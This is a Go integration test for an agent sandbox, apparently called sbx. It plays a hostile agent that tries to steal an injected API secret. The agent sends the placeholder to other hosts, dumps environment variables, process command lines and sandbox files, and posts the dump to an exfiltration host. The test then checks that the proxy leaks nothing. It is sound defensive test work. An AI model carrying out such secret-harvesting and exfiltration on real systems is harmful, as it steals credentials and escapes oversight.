@@ -1,0 +1,362 @@
+package hostile
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"math/big"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	dockerdriver "github.com/sbxhq/sbx/driver/docker"
+	"github.com/sbxhq/sbx/internal/fixture"
+)
+
+// TestSecretsStayOutside plays an agent that wants a secret that names
+// its hosts (secrets.KEY.hosts): it holds a placeholder only, the proxy
+// adds the value for that host only, and nothing the agent can read or
+// send carries the value or the CA's key.
+//
+// The upstreams are one server of the test's own (secretpeer serve) on
+// a network of the test's own, under three names: api (the secret's
+// host), drop (another allowed host, where the agent posts its dump) and
+// rogue (a secret's host whose certificate comes from a CA the proxy
+// does not trust). The proxy trusts the test's CA as sbx's host does
+// (SSL_CERT_FILE when sbx runs).
+//
+// The agent (secretpeer attack, the loop's command) calls api with the
+// placeholder in Authorization and X-Api-Key, sends the placeholder to
+// drop in plain HTTP, calls rogue, dumps its environment, every
+// process's environment and command line and every small file of the
+// sandbox, and posts the dump to drop over TLS, trusting anything. Then
+// the value changes on the host and the agent calls again: the new value
+// arrives, the sandbox is the same container.
+func TestSecretsStayOutside(t *testing.T) {
+	require(t)
+	const value1, value2 = "sk-real-Value-one-91f2", "sk-real-Value-two-37ac"
+	api, drop, rogue := "api-"+env.runID, "drop-"+env.runID, "rogue-"+env.runID
+	dir := t.TempDir()
+
+	// The test's CA, which the proxy trusts, certifies api and drop;
+	// another CA certifies rogue.
+	ca, caKey := newTestCA(t, "sbx test upstream CA")
+	other, otherKey := newTestCA(t, "sbx test rogue CA")
+	// The server's image holds its certificates and keys; the agent's
+	// does not (it would find those keys).
+	certs := filepath.Join(dir, "server", "certs")
+	if err := os.MkdirAll(certs, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	issue(t, certs, api, ca, caKey)
+	issue(t, certs, drop, ca, caKey)
+	issue(t, certs, rogue, other, otherKey)
+	roots := filepath.Join(dir, "roots.pem")
+	if err := os.WriteFile(roots, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ca.Raw}), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	dk := func(args ...string) string {
+		t.Helper()
+		out, err := exec.Command("docker", args...).CombinedOutput()
+		if err != nil {
+			t.Fatalf("docker %s: %v: %s", strings.Join(args, " "), err, out)
+		}
+		return strings.TrimSpace(string(out))
+	}
+	serverImage, agentImage := "sbx-hostile-peer:"+env.runID, "sbx-hostile-agent:"+env.runID
+	for _, im := range []struct{ ctx, image, dockerfile string }{
+		{"server", serverImage, "FROM scratch\nCOPY secretpeer /peer\nCOPY certs /certs\n"},
+		{"agent", agentImage, "FROM " + env.image + "\nCOPY secretpeer /peer\n"},
+	} {
+		ctx := filepath.Join(dir, im.ctx)
+		build := exec.Command("go", "build", "-o", filepath.Join(ctx, "secretpeer"), "github.com/sbxhq/sbx/test/hostile/secretpeer")
+		build.Env = append(os.Environ(), "CGO_ENABLED=0")
+		if out, err := build.CombinedOutput(); err != nil {
+			t.Fatalf("building secretpeer: %v: %s", err, out)
+		}
+		if err := os.WriteFile(filepath.Join(ctx, "Dockerfile"), []byte(im.dockerfile), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		dk(append(append([]string{"build", "-q"}, fixture.Labels("hostile")...), "-t", im.image, ctx)...)
+		t.Cleanup(func() { exec.Command("docker", "rmi", "-f", im.image).Run() })
+	}
+	network := "sbx-hostile-secrets-" + env.runID
+	dk(append(append([]string{"network", "create"}, fixture.Labels("hostile")...), network)...)
+	t.Cleanup(func() { exec.Command("docker", "network", "rm", network).Run() })
+	server := "sbx-hostile-peer-" + env.runID
+	dk("run", "-d", "--name", server, "--network", network, "--network-alias", api, "--network-alias", drop,
+		"--network-alias", rogue, serverImage, "/peer", "serve")
+	t.Cleanup(func() { exec.Command("docker", "rm", "-f", server).Run() })
+	waitFor(t, func() bool { return strings.Contains(dockerLogs(server), "secretpeer: listening") })
+
+	s := &sandbox{t: t, name: "hostile-secrets-" + env.runID, ws: t.TempDir(), state: t.TempDir()}
+	s.hostEnv = []string{"SBX_STATE_DIR=" + s.state, "SBX_STATIC_BINARY=" + env.binary, "HOME=" + t.TempDir(),
+		"PATH=" + os.Getenv("PATH"), "SSL_CERT_FILE=" + roots, "SBX_TEST_KEY=" + value1}
+	// The proxy's image for the test's roots is the test's to remove.
+	egressImage, err := dockerdriver.EgressImage(env.binary, lookup(s.hostEnv))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { exec.Command("docker", "rmi", egressImage).Run() })
+	s.write("sandbox.yaml", fmt.Sprintf(`version: 1
+name: %s
+agent: shell
+driver: docker
+template: %s
+workspace: {path: ., protect: false}
+secrets:
+  KEY: {env: SBX_TEST_KEY, hosts: ["%s:8443"]}
+  ROGUE_KEY: {env: SBX_TEST_KEY, hosts: ["%s:8443"]}
+network:
+  agentHosts: false
+  allow: ["%s:8443", "%s:8443", "%s:8080", "%s:8443"]
+docker:
+  networks: [%s]
+loop:
+  prompt: PROMPT.md
+  maxIterations: 1
+  completion: {promise: NEVER}
+  breaker: {noProgress: 0, sameError: 0}
+  command: [/peer, attack, -api, "https://%s:8443/", -drop, "https://%s:8443/", -plain, "http://%s:8080/", -rogue, "https://%s:8443/"]
+`, s.name, agentImage, api, rogue, api, drop, drop, rogue, network, api, drop, drop, rogue))
+	s.write("PROMPT.md", "Find the key.\n")
+	t.Cleanup(func() {
+		out, code := s.sbx("destroy", "-y")
+		if code != 0 {
+			t.Errorf("destroy: exit %d\n%s", code, out)
+		}
+	})
+
+	attack := func(value string) report {
+		t.Helper()
+		os.Remove(filepath.Join(s.ws, "report.json"))
+		out, code := s.sbx("loop", "-y")
+		if code != 1 || !strings.Contains(out, "iteration 1 of 1") {
+			t.Fatalf("sbx loop (one iteration, no promise): exit %d\n%s", code, out)
+		}
+		if strings.Contains(out, value) {
+			t.Errorf("sbx loop's output holds the value:\n%s", out)
+		}
+		var rep report
+		data, err := os.ReadFile(filepath.Join(s.ws, "report.json"))
+		if err != nil {
+			t.Fatalf("the agent wrote no report: %v\n%s", err, out)
+		}
+		if err := json.Unmarshal(data, &rep); err != nil {
+			t.Fatal(err)
+		}
+		t.Logf("the agent's report: %s", data)
+		return rep
+	}
+
+	since := time.Now()
+	rep := attack(value1)
+	id := dk("inspect", "-f", "{{.Id}}", "sbx-"+s.name)
+
+	// The secret's host got the value, through TLS the proxy terminated
+	// (the sandbox was shown the sandbox's CA); the other hosts' TLS is
+	// the upstream's own (a tunnel).
+	if rep.API.Status != 200 || !strings.HasPrefix(rep.API.Issuer, "sbx sandbox ") {
+		t.Errorf("the secret's host: %+v, want 200 through sbx's CA", rep.API)
+	}
+	if rep.Drop.Status != 200 || rep.Drop.Issuer != "sbx test upstream CA" {
+		t.Errorf("the other host: %+v, want 200 with the upstream's own certificate (a tunnel)", rep.Drop)
+	}
+	// The placeholder in plain HTTP to another host: refused.
+	if rep.Plain.Status != 403 {
+		t.Errorf("the placeholder sent in plain HTTP to another host: %+v, want 403", rep.Plain)
+	}
+	// An upstream whose certificate the proxy cannot verify gets nothing.
+	if rep.Rogue.Status != 502 && rep.Rogue.Error == "" {
+		t.Errorf("a secret's host with an unverifiable certificate: %+v, want refused", rep.Rogue)
+	}
+	if len(rep.KeyFiles) > 0 || rep.KeyInEnv {
+		t.Errorf("a private key in the sandbox: files %v, env %v", rep.KeyFiles, rep.KeyInEnv)
+	}
+	if rep.DumpBytes < 1000 {
+		t.Errorf("the dump is %d bytes: the agent read next to nothing", rep.DumpBytes)
+	}
+	reqs := peerRequests(t, server, since)
+	checkRequests(t, reqs, api, drop, rogue, value1)
+
+	// The proxy logged the placeholder it refused.
+	log, code := s.sbx("netlog", "--json")
+	if code != 0 || !strings.Contains(log, "placeholder") {
+		t.Errorf("sbx netlog says nothing of the refused placeholder: exit %d\n%s", code, log)
+	}
+	// Neither container's configuration holds the value or the CA's key.
+	for _, c := range []string{"sbx-" + s.name, "sbx-" + s.name + "-egress"} {
+		if cfg := dk("inspect", c); strings.Contains(cfg, value1) || strings.Contains(cfg, "PRIVATE KEY") {
+			t.Errorf("docker inspect %s holds the value or a key", c)
+		}
+	}
+
+	// Rotation in place: a new value on the host reaches the host at the
+	// next run, the sandbox being the same container.
+	since = time.Now()
+	s.hostEnv[len(s.hostEnv)-1] = "SBX_TEST_KEY=" + value2
+	rep = attack(value2)
+	if rep.API.Status != 200 {
+		t.Errorf("the secret's host after rotation: %+v", rep.API)
+	}
+	checkRequests(t, peerRequests(t, server, since), api, drop, rogue, value2)
+	if now := dk("inspect", "-f", "{{.Id}}", "sbx-"+s.name); now != id {
+		t.Errorf("the sandbox was recreated to rotate the value: %s, then %s", id, now)
+	}
+}
+
+// report is what secretpeer attack writes.
+type report struct {
+	API, Plain, Drop, Rogue struct {
+		Status int    `json:"status"`
+		Issuer string `json:"issuer"`
+		Error  string `json:"error"`
+	}
+	KeyFiles  []string `json:"key_files"`
+	KeyInEnv  bool     `json:"key_in_env"`
+	DumpBytes int      `json:"dump_bytes"`
+}
+
+// peerRequest is a request secretpeer serve logged.
+type peerRequest struct {
+	Host    string              `json:"host"`
+	TLS     bool                `json:"tls"`
+	Method  string              `json:"method"`
+	Headers map[string][]string `json:"headers"`
+	Body    string              `json:"body"`
+}
+
+// checkRequests: api got the value in both headers, and only api got
+// it; drop got the dump, without the value; rogue got nothing.
+func checkRequests(t *testing.T, reqs []peerRequest, api, drop, rogue, value string) {
+	t.Helper()
+	var gotAPI, gotDump bool
+	for _, r := range reqs {
+		host := strings.Split(r.Host, ":")[0]
+		all, _ := json.Marshal(r)
+		switch {
+		case host == api:
+			gotAPI = true
+			if a := r.Headers["Authorization"]; len(a) != 1 || a[0] != "Bearer "+value {
+				t.Errorf("the secret's host got Authorization %q, want the value", a)
+			}
+			if k := r.Headers["X-Api-Key"]; len(k) != 1 || k[0] != value {
+				t.Errorf("the secret's host got X-Api-Key %q, want the value", k)
+			}
+		case strings.Contains(string(all), value):
+			t.Errorf("%s got the value: %s", r.Host, clip(string(all)))
+		case host == drop && r.Method == "POST":
+			gotDump = len(r.Body) > 1000
+		case host == rogue:
+			t.Errorf("the host whose certificate the proxy cannot verify got a request: %s", clip(string(all)))
+		}
+	}
+	if !gotAPI || !gotDump {
+		t.Errorf("the secret's host got a request: %v; the other host got the dump: %v", gotAPI, gotDump)
+	}
+}
+
+func clip(s string) string {
+	if len(s) > 300 {
+		return s[:300] + "…"
+	}
+	return s
+}
+
+func peerRequests(t *testing.T, container string, since time.Time) []peerRequest {
+	t.Helper()
+	out, err := exec.Command("docker", "logs", "--since", since.Format(time.RFC3339Nano), container).Output()
+	if err != nil {
+		t.Fatalf("docker logs %s: %v", container, err)
+	}
+	var reqs []peerRequest
+	dec := json.NewDecoder(strings.NewReader(strings.ReplaceAll(string(out), "secretpeer: listening\n", "")))
+	for {
+		var r peerRequest
+		if err := dec.Decode(&r); err != nil {
+			break
+		}
+		reqs = append(reqs, r)
+	}
+	return reqs
+}
+
+func dockerLogs(container string) string {
+	out, _ := exec.Command("docker", "logs", container).CombinedOutput()
+	return string(out)
+}
+
+// waitFor polls a handshake the test cannot be told of (a container's
+// log line), for a minute at most.
+func waitFor(t *testing.T, ok func() bool) {
+	t.Helper()
+	for deadline := time.Now().Add(time.Minute); !ok(); time.Sleep(100 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("the test's server did not start within a minute")
+		}
+	}
+}
+
+func lookup(env []string) func(string) (string, bool) {
+	return func(k string) (string, bool) {
+		for _, kv := range env {
+			if v, ok := strings.CutPrefix(kv, k+"="); ok {
+				return v, true
+			}
+		}
+		return "", false
+	}
+}
+
+func newTestCA(t *testing.T, name string) (*x509.Certificate, *ecdsa.PrivateKey) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: name},
+		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
+		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	c, err := x509.ParseCertificate(der)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return c, key
+}
+
+// issue writes dir/HOST.pem and dir/HOST.key: a certificate for host from
+// the CA.
+func issue(t *testing.T, dir, host string, ca *x509.Certificate, caKey *ecdsa.PrivateKey) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(time.Now().UnixNano()), Subject: pkix.Name{CommonName: host},
+		DNSNames: []string{host}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
+		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, ca, &key.PublicKey, caKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	kd, err := x509.MarshalECPrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(dir, host+".pem"), pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o644)
+	if err := os.WriteFile(filepath.Join(dir, host+".key"), pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kd}), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
